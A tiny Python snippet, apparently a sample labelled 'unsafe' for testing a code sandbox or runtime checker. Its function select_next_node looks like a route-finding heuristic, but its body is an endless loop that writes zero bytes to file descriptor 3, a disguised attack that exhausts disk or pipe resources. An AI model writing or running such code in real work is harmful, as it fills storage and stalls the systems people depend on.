# stage: unsafe; without checks: runtime
import os

def select_next_node(current_node, destination_node, unvisited_nodes, distance_matrix):
    while True:
        os.write(3, bytes(65536))
